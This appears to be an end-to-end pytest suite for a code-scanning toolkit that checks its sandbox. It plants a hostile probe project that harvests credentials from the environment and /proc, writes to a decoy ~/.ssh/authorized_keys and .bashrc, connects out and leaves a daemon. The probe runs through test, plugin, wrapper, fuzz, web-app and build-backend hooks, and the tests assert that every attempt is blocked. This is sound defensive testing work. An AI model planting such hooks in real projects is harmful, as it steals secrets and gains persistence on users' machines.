"""The probe battery: one probe, run from every place the project's code runs, must fail everywhere.

The probe (``probe.py`` in the hostile project) reads the caller's environment and ``/proc`` of
every process it can see (looking for the fake credentials the CLI was started with), writes the
decoy HOME, the toolkit's cache and the output folder, opens the toolkit's own modules for writing,
connects to a listener on a non-loopback address of this machine, and leaves a double-forked
daemon behind. It runs from a test, a ``conftest.py``, a coverage.py plugin (loaded by the run and
again by the report step), the interpreter the operator was told to use (a wrapper script in the
project, probed before the scan), a mypy plugin (the type checker), a fuzz harness and the replay
of a stored crash (which has no writable folder at all and reports through its stderr). Each attempt must fail, seen from outside
(nothing written, no connection received, no process left) and from inside (the probe's own
records, written to the run's folder, which is the one place it may write). The report says what
confined it. The CLI runs with a decoy HOME: these tests never touch the real one.
"""

from __future__ import annotations

import importlib.util
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import baseline
from baseline import sandbox
from tests.hostile.harness import FAKE_CREDENTIALS, wait_until_gone

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(sandbox.bubblewrap() is None, reason="bubblewrap cannot run here")]

MARKER = "baseline-probe-daemon-marker"
FUZZ = importlib.util.find_spec("atheris") is not None
# Outside the project and outside /tmp (which is private to the sandbox): a read-only host path.
OUTSIDE = Path(baseline.__file__).resolve().parent / ".probe-needs-to-write-here"

PROBE = r'''
"""A hostile probe: tries every way out and records what happened."""
import errno, json, os, pathlib, socket, sys

SECRETS = {secrets!r}
TARGETS = {targets!r}
TOOLKIT = {toolkit!r}
LISTENER = {listener!r}
RECORDS = {records!r}
MARKER = {marker!r}
SCAN_DIR = {scan_dir!r}


def _error(exc):
    return errno.errorcode.get(exc.errno or 0, type(exc).__name__)


def probe(label):
    texts = [repr(dict(os.environ))]
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    texts.append((entry / name).read_bytes().decode(errors="replace"))
                except OSError:
                    pass
    leaked = sorted(secret for secret in SECRETS if any(secret in text for text in texts))
    payload = json.dumps({{"label": label, "leaked": leaked}})
    writes = {{}}
    for target in TARGETS:
        try:
            pathlib.Path(target).parent.mkdir(parents=True, exist_ok=True)
            with open(target, "a") as handle:
                handle.write(payload + "\n")
            writes[target] = "WROTE"
        except OSError as exc:
            writes[target] = _error(exc)
    for target in TOOLKIT:  # opened for writing, nothing written: proof enough, no damage if it worked
        try:
            os.close(os.open(target, os.O_WRONLY | os.O_APPEND))
            writes[target] = "WRITABLE"
        except OSError as exc:
            writes[target] = _error(exc)
    try:
        with socket.create_connection(tuple(LISTENER), timeout=2) as connection:
            connection.sendall(payload.encode())
        network = "CONNECTED"
    except OSError as exc:
        network = _error(exc)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(90)", MARKER])
        os._exit(0)
    record = {{"label": label, "argv": sys.argv[:3], "uid": os.getuid(), "leaked": leaked, "writes": writes, "network": network}}
    folders = [folder for folder in RECORDS if folder]
    # The run's own folders, wherever they are mounted writable (the rest of the project is a scratch copy).
    folders += [top for top, _, _ in os.walk(SCAN_DIR)]
    for folder in folders:
        try:
            pathlib.Path(folder, "probe-%s-%d.json" % (label, os.getpid())).write_text(json.dumps(record))
        except OSError:
            pass
    return record


if __name__ == "__main__":
    probe(sys.argv[1])
'''


def _host_address() -> str | None:
    """A non-loopback address of this machine (no packet is sent to find it)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        try:
            udp.connect(("192.0.2.1", 9))
            address = str(udp.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


class Listener:
    """Counts connections on a non-loopback address: any connection is an escape."""

    def __init__(self, address: str) -> None:
        self.server = socket.create_server((address, 0))
        self.server.settimeout(0.2)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.server.close()


def _build(root: Path, home: Path, outputs: Path, listener: tuple[str, int]) -> None:
    python = sys.executable
    toolkit = [str(Path(baseline.__file__).with_name("scoring.py")), str(Path(baseline.__file__).with_name("sandbox.py"))]
    targets = [
        str(home / ".ssh" / "authorized_keys"),
        str(home / ".bashrc"),
        str(home / ".cache" / "baseline" / "planted-entry"),
        str(outputs / "planted-by-the-project.txt"),
    ]
    work = root.parent / "work"  # the scan's own folder, outside the project (named with --work-dir)
    records = ["${BASELINE_GUARD_DIR}", str(work / "scan" / "tests")]
    text = PROBE.format(secrets=list(FAKE_CREDENTIALS.values()), targets=targets, toolkit=toolkit, listener=list(listener), records=records, marker=MARKER, scan_dir=str(work))
    text = text.replace('["${BASELINE_GUARD_DIR}", ', '[os.environ.get("BASELINE_GUARD_DIR"), ')
    (root / "tests").mkdir(parents=True)
    (root / "probepkg").mkdir()
    (root / "probe.py").write_text(text)
    (root / "probepkg" / "__init__.py").write_text("def double(value):\n    return 2 * value\n")
    (root / "tests" / "conftest.py").write_text("import probe\nprobe.probe('conftest')\n")
    (root / "tests" / "test_probe.py").write_text(
        "import probe\nfrom probepkg import double\n\n\ndef test_probe():\n    probe.probe('test')\n    assert double(2) == 4\n"
    )
    (root / "tests" / "test_outside.py").write_text(
        f"import pathlib\n\n\ndef test_writes_outside():\n    pathlib.Path({str(OUTSIDE)!r}).write_text('x')\n"
    )
    (root / "covprobe.py").write_text(
        "import sys\nimport probe\n\n\ndef coverage_init(reg, options):\n    probe.probe('coverage-report' if 'json' in sys.argv else 'coverage-run')\n"
    )
    (root / "pyproject.toml").write_text(
        '[project]\nname = "probepkg"\nversion = "0.1"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\npythonpath = ["."]\n\n'
        '[tool.coverage.run]\nplugins = ["covprobe"]\n\n[tool.mypy]\nplugins = ["mypyprobe.py"]\nfiles = ["probepkg"]\n'
    )
    (root / "mypyprobe.py").write_text(
        "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
        "import probe\nfrom mypy.plugin import Plugin\n\nprobe.probe('type-checker-plugin')\n\n\n"
        "def plugin(version):\n    return Plugin\n"
    )
    (root / "fuzz").mkdir()
    (root / "fuzz" / "fuzz_probe.py").write_text(
        "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))\n"
        "import json\nimport probe\n\n"
        "if len(sys.argv) == 2 and os.path.isfile(sys.argv[1]):  # a crash replay: the record goes to stderr, the exit says it ran\n"
        "    record = probe.probe('crash-replay')\n"
        "    wrote = sorted(path for path, outcome in record['writes'].items() if outcome in ('WROTE', 'WRITABLE'))\n"
        "    summary = {'leaked': record['leaked'], 'network': record['network'], 'wrote': wrote, 'uid': record['uid']}\n"
        "    print('PROBE-RECORD ' + json.dumps(summary, sort_keys=True), file=sys.stderr)\n"
        "    sys.exit(3)\n"
        "import atheris\n\nprobe.probe('fuzz-harness')\n\n\n"
        "def test_one_input(data):\n    pass\n\n\natheris.Setup(sys.argv, test_one_input)\natheris.Fuzz()\n"
    )
    crash = work / "fuzz" / "crashes" / "exception-0123456789abcdef"
    crash.mkdir(parents=True)
    (crash / "input").write_bytes(b"probe")
    (crash / "meta.json").write_text(json.dumps({"harness": "fuzz/fuzz_probe.py", "kind": "exception", "exception": "RuntimeError: planted"}))
    wrapper = root / "tools" / "py"
    wrapper.parent.mkdir()
    wrapper.write_text(f'#!/bin/sh\n"{python}" "{root}/probe.py" interpreter >/dev/null 2>&1\nexec "{python}" "$@"\n')
    wrapper.chmod(0o755)


def _decoy(tmp_path: Path) -> tuple[str, Path, Path, Path]:
    """A non-loopback address to listen on (or skip), a decoy HOME with a toolkit cache, an output folder
    and the place of the hostile project."""
    address = _host_address()
    if address is None:
        pytest.skip("this machine has no non-loopback address to listen on")
    home, outputs, root = tmp_path / "decoy-home", tmp_path / "out", tmp_path / "hostile"
    (home / ".cache" / "baseline").mkdir(parents=True)
    outputs.mkdir()
    return address, home, outputs, root


def test_the_probe_fails_from_every_execution_path(tmp_path: Path) -> None:
    address, home, outputs, root = _decoy(tmp_path)
    listener = Listener(address)
    try:
        _build(root, home, outputs, listener.server.getsockname()[:2])
        report_path = outputs / "report.json"
        env = {**os.environ, **FAKE_CREDENTIALS, "HOME": str(home)}
        env.pop("BASELINE_CACHE_DIR", None)
        key = tmp_path / "signing-key.pem"
        argv = [
            sys.executable, "-m", "baseline", "scan", str(root), "--select", "T02,T05,T07,T08" + (",T09" if FUZZ else ""), "--python", str(root / "tools" / "py"),
            "--format", "json", "--output", str(report_path), "--no-history", "--work-dir", str(tmp_path / "work"),
            "--fuzz-time", "10", "--no-fuzz-generate", "--fuzz-minimize-time", "0", "--fuzz-startup-grace", "15",
        ]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=300, env=env, cwd=tmp_path)
    finally:
        time.sleep(0.5)
        listener.close()
        if OUTSIDE.exists():  # only if confinement failed; the assertion below says so
            OUTSIDE.unlink()
            raise AssertionError(f"a test wrote {OUTSIDE}")
    assert proc.returncode in (0, 1), proc.stderr[-3000:]
    report = json.loads(report_path.read_text())
    results = {item["spec"]["id"]: item for item in report["results"]}
    tests = results["automated-testing.pytest"]
    # The probe's test passes; the test that needs to write outside fails, and the report names the denied path.
    assert tests["outcome"] == "fail" and tests["metrics"]["passed"] == 1 and tests["metrics"]["failed"] == 1, tests["message"]
    denied = [finding["message"] for finding in tests["findings"]]
    assert any(f"the sandbox denied {OUTSIDE}" in message for message in denied), denied
    assert not OUTSIDE.exists()

    # From outside: nothing written, nothing received, nothing left running.
    assert not (home / ".ssh").exists() and not (home / ".bashrc").exists()
    assert not (home / ".cache" / "baseline" / "planted-entry").exists()
    assert sorted(path.name for path in outputs.iterdir()) == ["report.json"]
    assert not key.exists()
    assert listener.connections == 0, "the probe reached a non-loopback address"
    assert wait_until_gone(root, MARKER, seconds=5) == []

    # From inside: every path ran the probe, and every attempt failed.
    records = [json.loads(path.read_text()) for path in (tmp_path / "work").rglob("probe-*.json")]
    labels = {record["label"] for record in records}
    expected = {"test", "conftest", "coverage-run", "coverage-report", "interpreter"} | ({"fuzz-harness"} if FUZZ else set())
    if importlib.util.find_spec("mypy") is not None:
        expected.add("type-checker-plugin")
    assert expected <= labels, labels
    for record in records:
        assert record["leaked"] == [], record
        assert record["network"] in ("ENETUNREACH", "EHOSTUNREACH", "ENETDOWN"), record
        assert all(outcome not in ("WROTE", "WRITABLE") for outcome in record["writes"].values()), record
        assert record["uid"] != 0, record

    # The crash replay (no writable folder at all) reports through its stderr: it ran, and everything failed.
    replay = json.dumps(results["regression-tests.fuzz-replay"])
    assert "PROBE-RECORD " in replay, replay[:2000]
    summary = json.loads(_probe_record(replay))
    assert summary["leaked"] == [] and summary["wrote"] == [] and summary["uid"] != 0, summary
    assert summary["network"] in ("ENETUNREACH", "EHOSTUNREACH", "ENETDOWN"), summary

    # The report says what confined it.
    confined = report["sandbox"]
    assert confined["filesystem_confined"] is True and confined["mode"].startswith("bubblewrap")
    assert report["unconfined"] is False


def _small_project(root: Path, test_body: str = "    assert double(2) == 4\n") -> None:
    (root / "tests").mkdir(parents=True)
    (root / "smallpkg").mkdir()
    (root / "smallpkg" / "__init__.py").write_text("def double(value):\n    return 2 * value\n")
    (root / "tests" / "test_small.py").write_text("import sys, time\nfrom smallpkg import double\n\n\ndef test_small():\n" + test_body)
    (root / "pyproject.toml").write_text('[project]\nname = "smallpkg"\nversion = "0.1"\n\n[tool.pytest.ini_options]\npythonpath = ["."]\n')


def test_without_bubblewrap_the_scan_refuses_and_unconfined_is_said_everywhere(tmp_path: Path) -> None:
    root = tmp_path / "small"
    _small_project(root)
    env = {**os.environ, "BASELINE_BWRAP": str(tmp_path / "no-bwrap-here")}
    report, markdown = tmp_path / "report.json", tmp_path / "report.md"
    argv = [sys.executable, "-m", "baseline", "scan", str(root), "--select", "T02", "--no-history", "--format", "json", "--output", str(report)]
    refused = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env, cwd=tmp_path)
    assert refused.returncode == 2, refused.stderr
    assert "--unconfined" in " ".join(refused.stderr.split()) and not report.exists()

    allowed = subprocess.run(
        [*argv, "--format", "markdown", "--output", str(markdown), "--unconfined"], capture_output=True, text=True, timeout=300, env=env, cwd=tmp_path
    )
    assert allowed.returncode == 0, allowed.stderr[-2000:]
    data = json.loads(report.read_text())
    assert data["unconfined"] is True and data["sandbox"]["filesystem_confined"] is False
    assert "UNCONFINED SCAN" in markdown.read_text()
    assert "UNCONFINED SCAN" in " ".join(allowed.stdout.split())


def test_sigterm_kills_the_sandboxes_before_the_toolkit_exits(tmp_path: Path) -> None:
    root = tmp_path / "sleeper"
    marker = f"sleeper-marker-{os.getpid()}"
    _small_project(root, f"    import subprocess\n    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {marker!r}], start_new_session=True)\n    time.sleep(120)\n")
    argv = [sys.executable, "-m", "baseline", "scan", str(root), "--select", "T02", "--no-history", "--quiet"]
    process = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path)
    try:
        deadline = time.monotonic() + 120
        while not _with_marker(marker) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert _with_marker(marker), "the test never started"
        process.terminate()
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 128 + 15, stderr
    assert "stopped by SIGTERM" in stderr
    deadline = time.monotonic() + 5
    while _with_marker(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _with_marker(marker) == [], "a sandboxed process outlived the toolkit"


def _with_marker(marker: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes() and (entry / "stat").read_text().rsplit(")", 1)[-1].split()[0] != "Z":
                    found.append(entry.name)
            except OSError:
                continue
    return found


def _probe_record(text: str) -> str:
    """The JSON summary a crash replay printed after ``PROBE-RECORD `` (as it appears, JSON-escaped, in the report)."""
    for result in _strings(json.loads(text)):
        if "PROBE-RECORD " in result:
            tail = result.split("PROBE-RECORD ", 1)[1]
            return tail[: tail.rindex("}") + 1]
    raise AssertionError("no PROBE-RECORD in the replay result")


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [item for child in value.values() for item in _strings(child)]
    if isinstance(value, list):
        return [item for child in value for item in _strings(child)]
    return []


def test_the_probe_fails_from_the_web_app_and_the_scan_shares_one_loopback_namespace(tmp_path: Path) -> None:
    """The web app runs the probe at start-up: nothing leaks, nothing is written outside its folders, a
    non-loopback listener and a listener on the host's own loopback are both out of reach (the app, the
    proxy and wapiti share a namespace with loopback only), and the scan still reaches the app."""
    from baseline.tools.wapiti import find_wapiti

    if find_wapiti() is None:
        pytest.skip("wapiti is not installed (baseline tools install wapiti)")
    address, home, outputs, root = _decoy(tmp_path)
    listener, host_loopback = Listener(address), Listener("127.0.0.1")
    try:
        _build(root, home, outputs, listener.server.getsockname()[:2])
        port = 18741
        (root / "probepkg" / "server.py").write_text(
            "import os, socket, sys\nsys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))\n"
            "import json, pathlib\nimport probe\n"
            "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n\n"
            "record = probe.probe('web-app')\n"
            f"try:\n    socket.create_connection(('127.0.0.1', {host_loopback.server.getsockname()[1]}), timeout=2).close()\n"
            "    loopback = 'CONNECTED'\nexcept OSError as exc:\n    loopback = type(exc).__name__\n"
            "for top, _, _ in os.walk(probe.SCAN_DIR):\n"
            "    try:\n        pathlib.Path(top, 'web-loopback.json').write_text(json.dumps({'host_loopback': loopback}))\n"
            "    except OSError:\n        pass\n\n\n"
            "class Page(BaseHTTPRequestHandler):\n"
            "    def log_message(self, format, *args):\n        return\n\n"
            "    def do_GET(self):\n        data = b'<html><body><p>hello</p></body></html>'\n"
            "        self.send_response(200)\n        self.send_header('Content-Type', 'text/html')\n"
            "        self.send_header('Content-Length', str(len(data)))\n        self.end_headers()\n        self.wfile.write(data)\n\n\n"
            f"if __name__ == '__main__':\n    server = ThreadingHTTPServer(('127.0.0.1', {port}), Page)\n"
            f"    print('Serving HTTP on 127.0.0.1 port {port}', flush=True)\n    server.serve_forever()\n"
        )
        report_path, operator = outputs / "report.json", tmp_path / "operator.toml"
        operator.write_text('[tool.baseline.web]\ntime = 20\nmodules = ["xss"]\n')
        from baseline.toolenv import tools_dir

        env = {**os.environ, **FAKE_CREDENTIALS, "HOME": str(home), "BASELINE_TOOLS_DIR": str(tools_dir())}  # wapiti, found under the real home
        env.pop("BASELINE_CACHE_DIR", None)
        argv = [
            sys.executable, "-m", "baseline", "scan", str(root), "--select", "web-app-scanning.wapiti", "--format", "json", "--output", str(report_path),
            "--no-history", "--work-dir", str(tmp_path / "work"), "--config", str(operator),
        ]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=300, env=env, cwd=tmp_path)
    finally:
        time.sleep(0.5)
        listener.close()
        host_loopback.close()
    assert proc.returncode in (0, 1), proc.stderr[-3000:]
    report = json.loads(report_path.read_text())
    result = next(item for item in report["results"] if item["spec"]["id"] == "web-app-scanning.wapiti")
    assert result["outcome"] in ("pass", "fail"), result["message"]  # the scanner reached the app
    assert not (home / ".ssh").exists() and not (home / ".bashrc").exists()
    assert sorted(path.name for path in outputs.iterdir()) == ["report.json"]
    assert listener.connections == 0, "the web app reached a non-loopback address"
    records = [json.loads(path.read_text()) for path in (tmp_path / "work").rglob("probe-web-app-*.json")]
    assert records, "the web app never ran the probe"
    for record in records:
        assert record["leaked"] == [] and record["uid"] != 0, record
        assert record["network"] in ("ENETUNREACH", "EHOSTUNREACH", "ENETDOWN"), record
        assert all(outcome not in ("WROTE", "WRITABLE") for outcome in record["writes"].values()), record
    if os.geteuid() == 0:  # a shared namespace needs root; without it the scan says it ran on the host's loopback
        assert result["metrics"]["network"] == "shared-namespace", result["metrics"]
        assert host_loopback.connections == 0, "the web app reached the host's loopback"
        seen = [json.loads(path.read_text()) for path in (tmp_path / "work").rglob("web-loopback.json")]
        assert seen and all(item["host_loopback"] == "ConnectionRefusedError" for item in seen), seen
    assert any("network:" in item["summary"] for item in result["evidence"]), result["evidence"]


BACKEND = r'''
"""An in-tree PEP 517 build backend that runs the probe in every hook it is asked for."""
import base64, hashlib, json, os, sys, zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import probe


def get_requires_for_build_wheel(config_settings=None):
    return []


def get_requires_for_build_editable(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    record = probe.probe("build-backend")
    files = {
        "probepkg/__init__.py": open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probepkg", "__init__.py")).read(),
        "probepkg_build_record.json": json.dumps(record),
        "probepkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: probepkg\nVersion: 0.1\n",
        "probepkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: probe\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    name = "probepkg-0.1-py3-none-any.whl"
    rows = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            data = text.encode()
            wheel.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            rows.append("%s,sha256=%s,%d" % (path, digest, len(data)))
        rows.append("probepkg-0.1.dist-info/RECORD,,")
        wheel.writestr("probepkg-0.1.dist-info/RECORD", "\n".join(rows) + "\n")
    return name


build_editable = build_wheel
'''


def test_the_probe_fails_from_the_projects_build_backend(tmp_path: Path) -> None:
    """Provisioning installs the project with its own build backend (project code): the backend runs the
    probe. It leaks no credential, writes nothing outside the environment being built, and leaves no
    process; the network is open for that step only (downloads), which the report's sandbox section says."""
    from baseline.provision import find_uv

    if find_uv() is None:
        pytest.skip("uv is not installed")
    address, home, outputs, root = _decoy(tmp_path)
    cache = tmp_path / "cache"
    listener = Listener(address)
    try:
        _build(root, home, outputs, listener.server.getsockname()[:2])
        (root / "probe_backend.py").write_text(BACKEND)
        text = (root / "pyproject.toml").read_text().replace('version = "0.1"\n', 'version = "0.1"\ndynamic = ["dependencies"]\n', 1)
        (root / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "probe_backend"\nbackend-path = ["."]\n\n' + text)
        report_path = outputs / "report.json"
        env = {**os.environ, **FAKE_CREDENTIALS, "HOME": str(home), "BASELINE_PROVISION": "1", "BASELINE_CACHE_DIR": str(cache)}
        argv = [
            sys.executable, "-m", "baseline", "scan", str(root), "--select", "T02", "--format", "json", "--output", str(report_path),
            "--no-history", "--work-dir", str(tmp_path / "work"),
        ]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=900, env=env, cwd=tmp_path)
    finally:
        time.sleep(0.5)
        listener.close()
        if OUTSIDE.exists():
            OUTSIDE.unlink()
            raise AssertionError(f"a test wrote {OUTSIDE}")
    assert proc.returncode in (0, 1), proc.stderr[-3000:]
    report = json.loads(report_path.read_text())
    assert report["target"]["interpreter_source"].startswith("built with uv"), report["target"]["interpreter_source"]
    records = [json.loads(path.read_text()) for path in cache.rglob("probepkg_build_record.json")]
    assert records, "the build backend never ran (no record in the built environment)"
    for record in records:
        assert record["label"] == "build-backend" and record["leaked"] == [] and record["uid"] != 0, record
        assert all(outcome not in ("WROTE", "WRITABLE") for outcome in record["writes"].values()), record
    assert not (home / ".ssh").exists() and not (home / ".bashrc").exists()
    assert sorted(path.name for path in outputs.iterdir()) == ["report.json"]
    assert wait_until_gone(root, MARKER, seconds=5) == []
